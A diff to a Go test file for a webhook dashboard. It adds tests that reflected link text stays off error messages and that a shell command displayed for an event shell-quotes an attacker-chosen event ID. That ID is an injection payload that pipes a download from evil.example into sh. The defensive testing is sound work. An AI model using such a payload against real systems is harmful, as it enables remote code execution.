@@ -688,8 +688,31 @@ func TestDashboardFilters(t *testing.T) {
 			t.Errorf("%s lists %v, want %v", tc.query, got, tc.want)
 		}
 	}
-	if body := page(t, b, "/ui/?from=yesterday"); !strings.Contains(body, `id="filter-error"`) || !strings.Contains(body, "yesterday") {
-		t.Errorf("a bad time is not reported:\n%s", body)
+	// Reported by its key alone: a crafted link's words stay off the page.
+	body := page(t, b, "/ui/?from=Security+notice:+run+this")
+	_, report, _ := strings.Cut(body, `id="filter-error"`)
+	report, _, _ = strings.Cut(report, "</")
+	if !strings.Contains(report, "from is not a time like") || strings.Contains(report, "Security notice") {
+		t.Errorf("a bad time is not reported by its key alone: %q", report)
+	}
+}
+
+// The command the event page gives for a payload cut short quotes the id,
+// which the sender chooses: pasted, it runs ferry and nothing else.
+func TestDashboardPayloadCommandIsQuoted(t *testing.T) {
+	t.Parallel()
+	b := setupDashboard(t, ferryhttp.DashboardOptions{}, ferryhttp.AdminOptions{})
+	payload := []byte(`{"x":"` + strings.Repeat("a", 70<<10) + `"}`)
+	res, err := b.store.EventReceive(context.Background(), &ferry.EventReceiveParams{Source: "github", EventID: "a;curl${IFS}evil.example|sh;#'", Type: "push", Payload: payload})
+	if err != nil {
+		t.Fatal(err)
+	}
+	body := page(t, b, "/ui/events/"+itoa(res.ID))
+	// html/template writes ' as &#39;: the shell word is 'a;curl${IFS}evil.example|sh;#'\'''
+	want := "<code>ferry events show github &#39;a;curl${IFS}evil.example|sh;#&#39;\\&#39;&#39;&#39; --payload</code>"
+	if !strings.Contains(body, want) {
+		_, got, _ := strings.Cut(body, "Cut short")
+		t.Errorf("payload command not quoted: want %s in\n%.300s", want, got)
 	}
 }
 
